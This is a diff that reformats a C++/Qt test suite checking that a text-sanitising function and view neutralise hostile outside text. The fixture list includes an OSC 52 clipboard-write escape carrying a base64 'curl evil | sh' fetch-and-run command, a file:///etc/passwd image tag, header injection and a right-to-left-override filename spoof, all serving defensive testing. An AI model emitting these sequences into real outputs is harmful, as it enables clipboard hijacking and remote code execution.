@@ -23,7 +23,7 @@ const std::vector<std::string> kHostile = {
     "\x1b[31mred\x1b[0m title",                        // ANSI colour
     "copy \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 me",      // OSC 52: write the clipboard
     "<img src=\"file:///etc/passwd\"> seen",           // an image
-    "<a href=\"https://evil.example\">click</a> here",  // a link
+    "<a href=\"https://evil.example\">click</a> here", // a link
     "Title\r\nX-Injected: yes",                        // header injection
     "invoice \xE2\x80\xAEtxt.exe",                     // U+202E right-to-left override
     "bad \xff\xfe bytes \xc3",                         // invalid UTF-8
@@ -31,7 +31,8 @@ const std::vector<std::string> kHostile = {
 
 std::string joined() {
     std::string all;
-    for (const std::string& s : kHostile) all += s + " ";
+    for (const std::string& s : kHostile)
+        all += s + " ";
     return all;
 }
 
@@ -40,12 +41,18 @@ TEST(PlainText, neutralisesControlsAndKeepsTheRestReadable) {
     EXPECT_EQ(plainText("Checks failed: api-server#482"), "Checks failed: api-server#482");
     EXPECT_EQ(plainText("\x1b[31mred"), QString::fromUtf8("\xEF\xBF\xBD[31mred"));
     EXPECT_EQ(plainText("a\r\nb\rc\nd\te"), "a\nb\nc\nd\te");
-    EXPECT_EQ(plainText("x\x7f\xC2\x85y"), QString::fromUtf8("x\xEF\xBF\xBD\xEF\xBF\xBDy"));  // DEL and C1 NEL
-    EXPECT_EQ(plainText("a\xE2\x80\xAE" "b\xE2\x81\xA6" "c"), QString::fromUtf8("a\xEF\xBF\xBD" "b\xEF\xBF\xBD" "c"));
+    EXPECT_EQ(plainText("x\x7f\xC2\x85y"), QString::fromUtf8("x\xEF\xBF\xBD\xEF\xBF\xBDy")); // DEL and C1 NEL
+    EXPECT_EQ(plainText("a\xE2\x80\xAE"
+                        "b\xE2\x81\xA6"
+                        "c"),
+              QString::fromUtf8("a\xEF\xBF\xBD"
+                                "b\xEF\xBF\xBD"
+                                "c"));
     EXPECT_EQ(plainText("bad \xff"), QString::fromUtf8("bad \xEF\xBF\xBD"));
     EXPECT_EQ(plainText("<b>bold</b> & more"), "<b>bold</b> & more");
     // Right-to-left text itself is left alone.
-    EXPECT_EQ(plainText("\xD7\xA9\xD7\x9C\xD7\x95\xD7\x9D"), QString::fromUtf8("\xD7\xA9\xD7\x9C\xD7\x95\xD7\x9D"));
+    EXPECT_EQ(plainText("\xD7\xA9\xD7\x9C\xD7\x95\xD7\x9D"),
+              QString::fromUtf8("\xD7\xA9\xD7\x9C\xD7\x95\xD7\x9D"));
 }
 
 TEST(PlainText, breaksLongRunsOnlyBetweenWholeCharacters) {
@@ -58,9 +65,11 @@ TEST(PlainText, breaksLongRunsOnlyBetweenWholeCharacters) {
 
     // 60 emoji (surrogate pairs) and an "e" with a combining accent repeated: never split inside.
     std::string emoji;
-    for (int i = 0; i < 60; ++i) emoji += "\xF0\x9F\x98\x80";
+    for (int i = 0; i < 60; ++i)
+        emoji += "\xF0\x9F\x98\x80";
     std::string accents;
-    for (int i = 0; i < 60; ++i) accents += "e\xCC\x81";
+    for (int i = 0; i < 60; ++i)
+        accents += "e\xCC\x81";
     for (const std::string& s : {emoji, accents}) {
         const QString out = plainText(s);
         for (qsizetype i = 0; i < out.size(); ++i) {
@@ -150,13 +159,14 @@ TEST_F(HostileTest, everyOutsideTextShowsLiterallyAndNothingActs) {
     }
     // Everything still shows, readably.
     EXPECT_GT(outside, 10);
-    for (const char* visibleText : {"<img src=\"file:///etc/passwd\"> seen",
-                                    "<a href=\"https://evil.example\">click</a> here", "[31mred", "]52;c;",
-                                    "Title\nX-Injected: yes", "txt.exe", "bad \xEF\xBF\xBD\xEF\xBF\xBD bytes"})
+    for (const char* visibleText :
+         {"<img src=\"file:///etc/passwd\"> seen", "<a href=\"https://evil.example\">click</a> here",
+          "[31mred", "]52;c;", "Title\nX-Injected: yes", "txt.exe", "bad \xEF\xBF\xBD\xEF\xBF\xBD bytes"})
         EXPECT_TRUE(everything.contains(QString::fromUtf8(visibleText))) << visibleText;
 
     // Tooltips are guessed too; none carries outside text.
-    for (QWidget* w : view.findChildren<QWidget*>()) EXPECT_FALSE(w->toolTip().contains("<img"));
+    for (QWidget* w : view.findChildren<QWidget*>())
+        EXPECT_FALSE(w->toolTip().contains("<img"));
 
     // None of the hostile links is a web address or an existing file: Open does nothing.
     for (QPushButton* open : visible<QPushButton>(&view, "openButton"))
@@ -167,12 +177,15 @@ TEST_F(HostileTest, everyOutsideTextShowsLiterallyAndNothingActs) {
         QTest::mouseClick(copy, Qt::LeftButton, {}, copy->rect().center());
     ASSERT_EQ(recorded.copied.size(), 4u);
     for (const QString& copied : recorded.copied)
-        for (QChar c : copied) EXPECT_FALSE(c.unicode() < 0x20 || c.unicode() == 0x7F);
+        for (QChar c : copied)
+            EXPECT_FALSE(c.unicode() < 0x20 || c.unicode() == 0x7F);
 }
 
 // The colours must read on both themes: every label against the panel's background.
 double luminance(const QColor& c) {
-    const auto channel = [](double v) { return v <= 0.03928 ? v / 12.92 : std::pow((v + 0.055) / 1.055, 2.4); };
+    const auto channel = [](double v) {
+        return v <= 0.03928 ? v / 12.92 : std::pow((v + 0.055) / 1.055, 2.4);
+    };
     return 0.2126 * channel(c.redF()) + 0.7152 * channel(c.greenF()) + 0.0722 * channel(c.blueF());
 }
 double contrast(const QColor& a, const QColor& b) {
